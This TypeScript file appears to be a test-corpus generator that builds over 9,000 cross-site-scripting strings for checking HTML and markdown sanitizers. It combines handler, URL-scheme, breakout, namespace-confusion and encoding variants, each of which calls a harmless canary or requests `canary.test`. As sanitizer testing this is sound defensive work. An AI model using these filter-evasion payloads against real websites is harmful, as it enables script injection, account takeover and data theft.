/**
 * Texts that try to become code: made of the families that public collections know (OWASP's cheat sheet, payloadbox,
 * cure53's mutations), none of them copied. Each calls `canary()`, opens a dialog, or asks `canary.test` for something,
 * wherever it is taken for more than a text.
 */

const CALL = 'canary()';
/** Asked for nothing, unless a text was taken for markup. */
export const CANARY_HOST = 'canary.test';

/** What is to run, where quotes of any kind, blanks or brackets may be filtered. */
const calls = [
  CALL,
  'canary``',
  'alert(1)',
  "window['canary']()",
  'top["can"+"ary"]()',
  '\\u0063anary()',
  '&#99;anary()',
  '&#x63;anary&lpar;&rpar;',
  'setTimeout`canary\\x28\\x29`',
  `fetch("//${CANARY_HOST}")`,
];

const elements = [
  'img src=x',
  'image href=x',
  'svg',
  'svg/',
  'body',
  'video src=x',
  'video><source',
  'audio src=x',
  'details open',
  'input autofocus',
  'input type=image src=x',
  'textarea autofocus',
  'select autofocus',
  'button autofocus',
  'iframe',
  'object data=x',
  'embed src=x',
  'marquee',
  'math href=x',
  'style',
  'link rel=stylesheet href=x',
  'form',
  'dialog open',
  'a href=x tabindex=1',
  'x contenteditable',
  'div popover id=x',
];

const handlers = [
  'onerror',
  'onload',
  'ontoggle',
  'onfocus',
  'onfocusin',
  'onstart',
  'onmouseover',
  'onpointerenter',
  'onanimationstart',
  'onbegin',
  'onloadstart',
  'onpageshow',
  'oNeRrOr',
  'onscrollend',
  'onresize',
  'onbeforetoggle',
];

/** Ways to write an attribute. */
const written: readonly ((name: string, value: string) => string)[] = [
  (name, value) => ` ${name}="${value}">`,
  (name, value) => ` ${name}='${value}'>`,
  (name, value) => ` ${name}=${value}>`,
  (name, value) => ` ${name}=\`${value}\`>`,
  (name, value) => `/${name}=${value}/>`,
  (name, value) => `\n${name}\n=\n"${value}"\n>`,
  (name, value) => `\t${name}\f=\r${value} `,
  (name, value) => ` x="a>" ${name}=${value}//`,
  (name, value) => ` ""${name}="${value}"<`,
];

/** Spellings of addresses that run something, and what hides them. */
export const injectionAddresses: readonly string[] = [
  ...['javascript', 'JaVaScRiPt', 'vbscript', 'livescript', 'feed:javascript', 'view-source:javascript', 'jar:javascript'].map(
    (scheme) => `${scheme}:${CALL}`,
  ),
  ...['\t', '\n', '\r', '\r\n', '\0', '\u0001', '\u001f', '\u00a0', '\u00ad', '\u200b', '\u2028', '\ufeff', '/**/', '\\'].flatMap(
    (between) => [`java${between}script:${CALL}`, `${between}javascript:${CALL}`, `javascript${between}:${CALL}`],
  ),
  `javascript://%0a${CALL}`,
  `javascript://a.test/%0d%0a${CALL}//https://a.test`,
  `javascript:/*https://a.test/*/${CALL}`,
  `javascript:"<script>${CALL}</script>"`,
  'javascript:alert(1)',
  `javascript&colon;${CALL}`,
  `javascript&#58;${CALL}`,
  `javascript&#x3A;${CALL}`,
  `&#106;avascript:${CALL}`,
  `&#0000106&#0000097vascript:${CALL}`,
  `java&Tab;script&NewLine;:${CALL}`,
  `%6aavascript:${CALL}`,
  `javascript%3a${CALL}`,
  `\\u006aavascript:${CALL}`,
  `ｊavascript：${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  'data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==',
  `data:text/html;charset=utf-7,+ADw-script+AD4-${CALL}+ADw-/script+AD4-`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${CALL}"/>`,
  'DATA:;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==',
  `data:application/xhtml+xml,<script xmlns="http://www.w3.org/1999/xhtml">${CALL}</script>`,
  `blob:https://${CANARY_HOST}/1`,
  `filesystem:https://${CANARY_HOST}/temporary/x`,
  `//${CANARY_HOST}/x`,
  `\\\\${CANARY_HOST}\\x`,
  `https:javascript:${CALL}`,
  `https://javascript:${CALL}`,
  `https://a.test"onclick="${CALL}`,
  `https://a.test'onclick='${CALL}`,
  `https://a.test\`onclick=${CALL}`,
  `https://a.test/<img src=x onerror=${CALL}>`,
  `https://a.test/%22%3E%3Cscript%3E${CALL}%3C/script%3E`,
  `https://a.test/?q=javascript:${CALL}#javascript:${CALL}`,
  `https://user:javascript@a.test/"><svg onload=${CALL}>`,
];

/** Where an address may come to stand. */
const linked: readonly ((address: string) => string)[] = [
  (address) => address,
  (address) => `<a href="${address}">x</a>`,
  (address) => `<a href='${address}'>x</a>`,
  (address) => `<a href=${address}>x`,
  (address) => `<iframe src="${address}">`,
  (address) => `<iframe srcdoc="<a href='${address}'>">`,
  (address) => `<form action="${address}"><input type=submit>`,
  (address) => `<button form=x formaction="${address}">`,
  (address) => `<object data="${address}">`,
  (address) => `<embed src="${address}">`,
  (address) => `<svg><a xlink:href="${address}"><text y=9>x`,
  (address) => `<svg><use href="${address}#x"/>`,
  (address) => `<svg><a><animate attributeName=href values="${address}"/>`,
  (address) => `<svg><set attributeName=href to="${address}"/>`,
  (address) => `<math><maction xlink:href="${address}">x`,
  (address) => `<base href="${address}//">`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `<link rel=import href="${address}">`,
  (address) => `<script src="${address}"></script>`,
  (address) => `<div style="background:url('${address}')">`,
  (address) => `<style>@import '${address}';</style>`,
  (address) => `<area href="${address}" coords=0,0,9,9>`,
  (address) => `<video poster="${address}">`,
  (address) => `[x](${address})`,
  (address) => `[x](<${address}> "t")`,
  (address) => `![x](${address} "onerror=${CALL}")`,
  (address) => `[x]: ${address}`,
  (address) => `<${address}>`,
  (address) => `[url=${address}]x[/url]`,
  (address) => `"${address}":x`,
  (address) => `@x ${address} #x $X`,
];

/** Ends what a text may stand in. */
const breakouts = [
  '"',
  "'",
  '`',
  '>',
  '">',
  "'>",
  '\\">',
  '-->',
  '--!>',
  '<!-->',
  ']]>',
  '?>',
  '*/',
  '</title>',
  '</textarea>',
  '</script>',
  '</ScRiPt\t/>',
  '</style>',
  '</noscript>',
  '</template>',
  '</svg>',
  '</math>',
  '</select>',
  '</xmp>',
  '</iframe>',
  '</option></select>',
  '\r\n\r\n',
];

const ways: readonly string[] = [
  `<script>${CALL}</script>`,
  `<script src=//${CANARY_HOST}></script>`,
  `<script type=module>${CALL}</script>`,
  `<svg><script>${CALL}</script>`,
  `<img src=x onerror=${CALL}>`,
  `<img src=//${CANARY_HOST}/x>`,
  `<svg onload=${CALL}>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>">`,
  `<meta http-equiv=refresh content="0;url=//${CANARY_HOST}">`,
  `<link rel=stylesheet href=//${CANARY_HOST}>`,
  `<style>@import '//${CANARY_HOST}';</style>`,
  ` onmouseover=${CALL} `,
  ` autofocus onfocus=${CALL} x=`,
  ` style=animation-name:x onanimationstart=${CALL} `,
  `;${CALL};//`,
];

const ends = ['', '<!--', '<x "', '//'];

/**
 * Namespaces and elements whose content is read by other rules, so that markup changes its meaning when it is written
 * and read again.
 */
const around: readonly ((inside: string) => string)[] = [
  (inside) => `<noscript><p title="</noscript>${inside}">`,
  (inside) => `<template>${inside}</template>`,
  (inside) => `<template shadowrootmode=open>${inside}</template>`,
  (inside) => `<svg><style>${inside}`,
  (inside) => `<svg></p><style><a id="</style>${inside}">`,
  (inside) => `<svg><foreignObject>${inside}`,
  (inside) => `<svg><title>${inside}`,
  (inside) => `<svg><desc><noscript>${inside}`,
  (inside) => `<math><mtext><table><mglyph><style><!--</style>${inside}-->`,
  (inside) => `<math><annotation-xml encoding="text/html">${inside}`,
  (inside) => `<form><math><mtext></form><form><mglyph><style></math>${inside}`,
  (inside) => `<math><mi><mglyph><![CDATA[${inside}]]>`,
  (inside) => `<svg><![CDATA[><${inside}]]>`,
  (inside) => `<textarea><img title="</textarea>${inside}">`,
  (inside) => `<xmp><p id="</xmp>${inside}">`,
  (inside) => `<iframe><p id="</iframe>${inside}">`,
  (inside) => `<noembed><p id="</noembed>${inside}">`,
  (inside) => `<plaintext>${inside}`,
  (inside) => `<select><option><style></option></select>${inside}`,
  (inside) => `<table><td>${inside}</table>`,
  (inside) => `<!--><!--${inside}-->`,
  (inside) => `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${CALL}</x:script>${inside}`,
  (inside) => `<a is=x slot=${inside}`,
  (inside) => `<<script>${inside}</script`,
];

/** Spellings under which something on the way may read the same again. */
const encodings: readonly ((text: string) => string)[] = [
  (text) => each(text, (code) => `&#${code};`),
  (text) => each(text, (code) => `&#x${code.toString(16)};`),
  (text) => each(text, (code) => `&#${String(code).padStart(7, '0')}`),
  (text) => each(text, (code) => `%${hex(code, 2)}`),
  (text) => each(text, (code) => `%25${hex(code, 2)}`),
  (text) => each(text, (code) => `\\u${hex(code, 4)}`),
  (text) => each(text, (code) => `\\x${hex(code, 2)}`),
  (text) => each(text, (code) => `\\${code.toString(8)}`),
  (text) => each(text, (code) => (code > 32 && code < 127 ? String.fromCodePoint(code + 0xfee0) : String.fromCodePoint(code))),
  (text) => each(text, (code) => String.fromCodePoint(code, 0x200b)),
  (text) => each(text, (code) => String.fromCodePoint(code, 0x0300)),
  (text) => each(text, (code) => String.fromCodePoint(code, 0)),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
  (text) => text.replaceAll('<', '&LT').replaceAll('>', '&GT'),
  (text) => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
  (text) => text.replaceAll('<', '\u00bc').replaceAll('>', '\u00be'),
  (text) => text.replaceAll('<', '\u2039').replaceAll('>', '\u203a'),
  (text) => text.replaceAll('<', '%C0%BC').replaceAll('>', '%C0%BE'),
  (text) => text.replaceAll('<', '\u201c<').replaceAll('"', '\u201d'),
  (text) => text.replaceAll('<', '<\0'),
  (text) => text.replaceAll('<', '<\u0001'),
  (text) => text.replaceAll(' ', '\u000b'),
  (text) => text.replaceAll(' ', '\u3000'),
  (text) => text.toUpperCase(),
  (text) => `\u202e${text}\u202c`,
  (text) => `\u2067${text}`,
  (text) => `\u200f${text}\u200e`,
  (text) => `\ufeff${text}`,
  (text) => `\ud83d${text}\udc26`,
  (text) => `{{constructor.constructor('${text}')()}}`,
  (text) => `\${${text}}`,
  (text) => `<%= ${text} %>`,
  (text) => `{%raw%}${text}`,
  (text) => `#{${text}}`,
  (text) => `\`\`\`html\n${text}\n\`\`\``,
  (text) => `{"type":"script","props":{"dangerouslySetInnerHTML":{"__html":"${text}"}}}`,
  (text) => `__proto__[innerHTML]=${text}`,
];

function each(text: string, change: (code: number) => string): string {
  return [...text].map((character) => change(character.codePointAt(0) ?? 0)).join('');
}

function hex(code: number, digits: number): string {
  return code.toString(16).padStart(digits, '0');
}

/** More than 9,000, no two alike, the same in each run. */
export function injectionTexts(): readonly string[] {
  return [...new Set(all())];
}

function* all(): Generator<string> {
  let number = 0;
  for (const element of elements)
    for (const handler of handlers)
      for (const write of written) {
        number += 1;
        yield `<${element}${write(handler, calls[number % calls.length] ?? CALL)}`;
      }
  for (const address of injectionAddresses) for (const link of linked) yield link(address);
  for (const breakout of breakouts) for (const way of ways) for (const end of ends) yield `${breakout}${way}${end}`;
  for (const wrap of around) for (const way of ways) yield wrap(way);
  for (const wrap of around) for (const outer of around) yield outer(wrap(`<img src=x onerror=${CALL}>`));
  for (const encode of encodings) for (const way of [...ways, `javascript:${CALL}`, CALL]) yield encode(way);
}
